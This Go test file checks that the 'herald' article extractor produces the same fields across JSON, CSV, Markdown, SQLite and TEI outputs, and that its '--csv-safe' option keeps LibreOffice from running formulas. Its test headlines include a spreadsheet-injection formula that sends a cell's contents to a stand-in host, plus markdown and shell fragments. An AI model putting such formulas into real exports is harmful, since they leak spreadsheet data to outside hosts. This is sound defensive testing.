package main

import (
	"archive/zip"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"html"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.yaml.in/yaml/v3"
)

// story holds what every tool must read as herald's JSON states it.
type story struct {
	Headline string  `json:"headline" yaml:"headline"`
	Byline   *string `json:"byline" yaml:"byline"`
	Day      string  `json:"day" yaml:"day"`
	Body     string  `json:"body" yaml:"-"`
}

// headlines are such as break a format or run in a spreadsheet. Each is also a paragraph of its article.
var headlines = []string{
	`=HYPERLINK("http://x.example/?"&A1,"Click, please")`,
	`+82 "2" 727; 'one', two	and three`,
	`등대지기 "마흔" 명, 항구에 등불 — 「빛」 😀`,
	`# No *heading* of _ours_ [x](http://x.example) | <b>&amp;</b> \ $HOME ` + "`rm`",
	`- 5: "a", b`,
	`null`,
}

// The programs that people use read the same headline, byline, day and body from every format. Each runs where it is installed.
func TestTools(t *testing.T) {
	skipInShort(t, "it runs other programs, of which some take seconds to start")
	pages := hostilePages(t)
	want := stories(t, run(t, "", "herald", "extract", pages))
	if len(want) != len(headlines) {
		t.Fatalf("%d articles of %d pages", len(want), len(headlines))
	}
	for i, headline := range headlines {
		headline = strings.ReplaceAll(headline, "\t", " ") // to a page they are the same
		if want[i].Headline != headline || !strings.Contains(want[i].Body, headline) {
			t.Errorf("the headline %q is read as %q, or the story is without it", headline, want[i].Headline)
		}
	}
	for name, read := range map[string]func(*testing.T, string) []story{
		"jq": readByJQ, "mlr csv": readByMillerCSV, "mlr json": readByMillerJSON, "python3 csv": readByPythonCSV, "python3 json": readByPythonJSON,
		"sqlite3": readBySQLite, "sqlite3 csv": readBySQLiteCSV, "pandoc": readByPandoc, "xmllint": readByXmllint,
	} {
		t.Run(name, func(t *testing.T) {
			if diff := cmp.Diff(want, read(t, pages)); diff != "" {
				t.Errorf("(-json +%s):\n%s", name, diff)
			}
		})
	}
	t.Run("soffice", func(t *testing.T) { spreadsheet(t, pages, want) })
}

// hostilePages returns a folder with a page for each of the headlines, in their order.
func hostilePages(t *testing.T) string {
	t.Helper()
	page, err := os.ReadFile("../../testdata/script/pages/formula.html")
	if err != nil {
		t.Fatal(err)
	}
	const old, first = "=SUM of small things", "None of the 2,100 things"
	if strings.Count(string(page), old) != 2 || strings.Count(string(page), first) != 1 {
		t.Fatal("the page is not the one it was")
	}
	dir := t.TempDir()
	for i, headline := range headlines {
		words := html.EscapeString(headline)
		text := strings.NewReplacer(old, words, first, words+"<br><br>\n"+first).Replace(string(page))
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("%d.html", i)), []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// run returns what a program prints. It skips the test where the program is not installed.
func run(t *testing.T, stdin, name string, args ...string) string {
	t.Helper()
	if _, err := exec.LookPath(name); err != nil {
		t.Skipf("%s is not installed", name)
	}
	cmd := exec.CommandContext(t.Context(), name, args...)
	cmd.Stdin = strings.NewReader(stdin)
	var said strings.Builder
	cmd.Stderr = &said
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v\n%s", name, err, said.String())
	}
	return string(out)
}

// stories parses JSON objects, one after another or in a list.
func stories(t *testing.T, text string) []story {
	t.Helper()
	d := json.NewDecoder(strings.NewReader(text))
	var all []story
	if strings.HasPrefix(text, "[") {
		if err := d.Decode(&all); err != nil {
			t.Fatal(err)
		}
		return all
	}
	for {
		var s story
		switch err := d.Decode(&s); {
		case errors.Is(err, io.EOF):
			return all
		case err != nil:
			t.Fatal(err)
		}
		all = append(all, s)
	}
}

const asked = "headline,byline,day,body"

func readByJQ(t *testing.T, pages string) []story {
	t.Helper()
	return stories(t, run(t, run(t, "", "herald", "extract", pages), "jq", "-s", "map({headline, byline, day, body})"))
}

func readByMillerCSV(t *testing.T, pages string) []story {
	t.Helper()
	table := run(t, "", "herald", "extract", "-f", "csv", "--fields", asked, pages)
	return stories(t, run(t, table, "mlr", "--icsv", "--ojson", "cat"))
}

func readByMillerJSON(t *testing.T, pages string) []story {
	t.Helper()
	return stories(t, run(t, run(t, "", "herald", "extract", pages), "mlr", "--json", "cut", "-o", "-f", asked))
}

func readByPythonCSV(t *testing.T, pages string) []story {
	t.Helper()
	const program = `import csv, io, json, sys
rows = csv.DictReader(io.TextIOWrapper(sys.stdin.buffer, encoding="utf-8", newline=""), strict=True)
print(json.dumps(list(rows)))`
	return stories(t, run(t, run(t, "", "herald", "extract", "-f", "csv", "--fields", asked, pages), "python3", "-c", program))
}

func readByPythonJSON(t *testing.T, pages string) []story {
	t.Helper()
	const program = `import json, sys
print(json.dumps([json.loads(line) for line in sys.stdin.buffer]))`
	return stories(t, run(t, run(t, "", "herald", "extract", pages), "python3", "-c", program))
}

func readBySQLite(t *testing.T, pages string) []story {
	t.Helper()
	db := filepath.Join(t.TempDir(), "corpus.db")
	run(t, "", "herald", "batch", "-q", pages, "-o", db)
	return stories(t, run(t, "", "sqlite3", "-json", db, "select headline, byline, day, body from articles order by n"))
}

func readBySQLiteCSV(t *testing.T, pages string) []story {
	t.Helper()
	file := filepath.Join(t.TempDir(), "corpus.csv")
	run(t, "", "herald", "batch", "-q", pages, "--fields", asked, "-o", file)
	return stories(t, run(t, "", "sqlite3", "-json", ":memory:", ".import --csv '"+file+"' articles", "select * from articles"))
}

// readByPandoc reads the front matter as YAML and the rest as pandoc's syntax tree.
func readByPandoc(t *testing.T, pages string) []story {
	t.Helper()
	var all []story
	for _, name := range entries(t, pages) {
		text := run(t, "", "herald", "extract", "-f", "markdown", filepath.Join(pages, name))
		front, _, ok := strings.Cut(strings.TrimPrefix(text, "---\n"), "\n---\n")
		var s, below story
		if err := yaml.Unmarshal([]byte(front), &s); err != nil || !ok {
			t.Fatalf("%v\n%s", err, text)
		}
		below.Byline, below.Day = s.Byline, s.Day // these are only in the front matter, or are worded otherwise below
		var tree struct{ Blocks []node }
		if err := json.Unmarshal([]byte(run(t, text, "pandoc", "-f", "commonmark+pipe_tables+yaml_metadata_block", "-t", "json")), &tree); err != nil {
			t.Fatal(err)
		}
		var body []string
		for i, block := range tree.Blocks {
			switch {
			case i == 0 && block.T == "Header":
				below.Headline = block.text()
			case i == 1 && block.text() == "By "+*s.Byline, i == 1 && block.text() == *s.Byline:
			default:
				body = append(body, block.text())
			}
		}
		below.Body = strings.Join(body, "\n\n")
		if s.Headline != below.Headline {
			t.Errorf("the headline is %q in the front matter, %q below", s.Headline, below.Headline)
		}
		all = append(all, below)
	}
	return all
}

func entries(t *testing.T, dir string) []string {
	t.Helper()
	files, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range files {
		names = append(names, f.Name())
	}
	return names
}

// node is a block or an inline of pandoc. An article without markup may yield only text and spaces.
type node struct {
	T string          `json:"t"`
	C json.RawMessage `json:"c"`
}

func (n node) text() string {
	switch n.T {
	case "Space":
		return " "
	case "SoftBreak", "LineBreak":
		return "\n"
	case "Str":
		var s string
		if json.Unmarshal(n.C, &s) != nil {
			return n.T
		}
		return s
	}
	var inlines []node
	content := n.C
	if n.T == "Header" { // level, attributes, inlines
		var parts []json.RawMessage
		if json.Unmarshal(n.C, &parts) != nil || len(parts) != 3 {
			return n.T
		}
		content = parts[2]
	}
	if n.T != "Header" && n.T != "Para" || json.Unmarshal(content, &inlines) != nil {
		return "<" + n.T + ">"
	}
	var b strings.Builder
	for _, inline := range inlines {
		b.WriteString(inline.text())
	}
	return b.String()
}

// readByXmllint reads the text of each TEI document by XPath.
func readByXmllint(t *testing.T, pages string) []story {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "tei") + "/"
	run(t, "", "herald", "batch", "-q", "-f", "tei", pages, "-o", dir)
	corpus := filepath.Join(t.TempDir(), "corpus.xml")
	run(t, "", "herald", "extract", "-f", "tei", "-o", corpus, pages)
	run(t, "", "xmllint", "--noout", "--nonet", corpus)
	if n := strings.TrimSpace(run(t, "", "xmllint", "--xpath", `count(/*[local-name()="teiCorpus"]/*[local-name()="TEI"])`, corpus)); n != fmt.Sprint(len(entries(t, dir))) {
		t.Errorf("the corpus has %s texts, the folder %d files", n, len(entries(t, dir)))
	}
	var all []story
	for i := range headlines {
		at := func(path string) string {
			path = fmt.Sprintf(path, i+1)
			return strings.TrimSuffix(run(t, "", "xmllint", "--nonet", "--xpath", path, corpus), "\n")
		}
		byline := at(`string(//*[local-name()="TEI"][%d]//*[local-name()="bibl"]/*[local-name()="author"])`)
		s := story{
			Headline: at(`string(//*[local-name()="TEI"][%d]//*[local-name()="body"]/*[local-name()="head"])`),
			Byline:   &byline,
			Day:      at(`substring(//*[local-name()="TEI"][%d]//*[local-name()="bibl"]/*[local-name()="date"]/@when, 1, 10)`),
		}
		var body struct {
			P []string `xml:"p"`
		}
		if err := xml.Unmarshal([]byte(at(`//*[local-name()="TEI"][%d]//*[local-name()="body"]`)), &body); err != nil {
			t.Fatal(err)
		}
		s.Body = strings.Join(body.P, "\n\n")
		all = append(all, s)
	}
	return all
}

// spreadsheet checks that LibreOffice runs a headline that is a formula, unless the table was made with --csv-safe.
func spreadsheet(t *testing.T, pages string, want []story) {
	t.Helper()
	dir := t.TempDir()
	run(t, "", "herald", "extract", "-f", "csv", "--fields", asked, "-o", dir+"/plain.csv", pages)
	run(t, "", "herald", "extract", "-f", "csv", "--fields", asked, "--csv-safe", "-o", dir+"/safe.csv", pages)
	run(t, "", "soffice", "-env:UserInstallation=file://"+dir+"/profile", "--headless",
		"--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,0,true", // comma, quote, UTF-8; formulas are run, as Excel does
		"--convert-to", "xlsx", "--outdir", dir, dir+"/plain.csv", dir+"/safe.csv")
	const sheet, texts = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
	if !strings.Contains(part(t, dir+"/plain.xlsx", sheet), "<f") {
		t.Error("no formula among the cells, also without --csv-safe: this proves nothing")
	}
	if strings.Contains(part(t, dir+"/safe.xlsx", sheet), "<f") {
		t.Error("a formula among the cells")
	}
	var book struct {
		Cells []struct {
			T string   `xml:"t"`
			R []string `xml:"r>t"` // in place of t, where a cell has two scripts
		} `xml:"si"`
	}
	if err := xml.Unmarshal([]byte(part(t, dir+"/safe.xlsx", texts)), &book); err != nil {
		t.Fatal(err)
	}
	cells := make(map[string]bool)
	for _, c := range book.Cells {
		cells[c.T+strings.Join(c.R, "")] = true
	}
	for _, s := range want {
		cell := s.Headline
		if strings.ContainsAny(cell[:1], "=+-@") {
			cell = "'" + cell
		}
		if !cells[cell] || !cells[s.Body] {
			t.Errorf("no cell %q, or none with its story", cell)
		}
	}
}

// part returns a file of a workbook.
func part(t *testing.T, book, name string) string {
	t.Helper()
	z, err := zip.OpenReader(book)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	data, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}
